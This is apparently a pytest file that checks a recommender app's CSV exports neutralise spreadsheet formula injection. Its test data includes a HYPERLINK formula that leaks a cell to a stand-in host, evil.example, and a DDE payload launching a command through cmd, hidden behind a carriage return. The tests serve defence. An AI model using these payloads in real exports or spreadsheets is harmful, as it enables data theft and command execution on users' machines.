"""CSV exports are safe to open in a spreadsheet: formula injection is neutralised."""

from __future__ import annotations

import csv
import io

import pandas as pd

from recsys_core.security.exports import neutralise_cell, safe_frame, to_csv_bytes

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for discount")'


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def test_a_hyperlink_title_is_exported_inert() -> None:
    frame = pd.DataFrame(
        {"item_id": ["85123A", "@SUM(1)"], "title": [EVIL, "Mug"], "score": [-0.5, 2.0]}
    )
    rows = _cells(to_csv_bytes(frame))
    assert rows[1][1] == "'" + EVIL  # text, not a formula, when a spreadsheet opens it
    assert rows[2][0] == "'@SUM(1)"
    assert rows[1][2] == "-0.5"  # numbers stay numbers
    assert rows[2][1] == "Mug"


def test_every_owasp_prefix_is_neutralised_and_others_are_left_alone() -> None:
    for prefix in ("=", "+", "-", "@", "\t"):
        assert neutralise_cell(prefix + "1+1") == "'" + prefix + "1+1"
    for prefix in ("\r", "\n", "\r\n"):  # a line break starts a new row: made a space
        assert neutralise_cell(prefix + "1+1") == "' 1+1"
    for value in ("plain", "", "1+1", 3, -2.5, None):
        assert neutralise_cell(value) == value


def test_categorical_columns_and_headers_are_covered_too() -> None:
    frame = pd.DataFrame({"=cmd": pd.Categorical([EVIL, "ok"])})
    safe = safe_frame(frame)
    assert list(safe.columns) == ["'=cmd"]
    assert safe.iloc[0, 0] == "'" + EVIL


def test_the_apps_download_helper_uses_it() -> None:
    from ui.components import csv_bytes

    rows = _cells(csv_bytes(pd.DataFrame({"title": [EVIL]})))
    assert rows[1][0] == "'" + EVIL


CALC = "Mug\r=cmd|' /C calc'!A0"


def test_a_carriage_return_inside_a_cell_cannot_start_a_formula_row() -> None:
    """Issue 23 item 12: the CR passed the guard and the export had a row starting ``=cmd``."""
    data = to_csv_bytes(pd.DataFrame({"title": [CALC, "Mug\n+1", "a\r\n@SUM(1)"], "n": [1, 2, 3]}))
    assert b"\r=" not in data and b"\n=" not in data and b"\n+" not in data
    lines = data.decode("utf-8").split("\r\n")
    assert lines[:4] == [
        '"title","n"',
        '"Mug =cmd|\' /C calc\'!A0","1"',
        '"Mug +1","2"',
        '"a @SUM(1)","3"',
    ]
    for piece in data.decode("utf-8").replace("\r", "\n").split("\n"):  # any record split
        assert not piece.lstrip('" ').startswith(("=", "+", "-", "@")), piece
    rows = _cells(data)
    assert rows[1] == ["Mug =cmd|' /C calc'!A0", "1"]


def test_spaces_before_a_formula_do_not_hide_it() -> None:
    assert neutralise_cell("  =1+1") == "'  =1+1"
    assert neutralise_cell("x\r =1") == "x  =1"


def test_the_audit_export_quotes_and_neutralises_too(tmp_path: object) -> None:
    from pathlib import Path

    from recsys_core.security import audit

    audit.record("app:ann", "export", {"file": CALC})
    out = Path(str(tmp_path)) / "audit.csv"
    audit.export_csv(out)
    text = out.read_text(encoding="utf-8")
    assert "\r=" not in text and "\\r=cmd" in text  # JSON keeps it escaped; no raw CR
    assert all(line.startswith('"') for line in text.splitlines() if line)
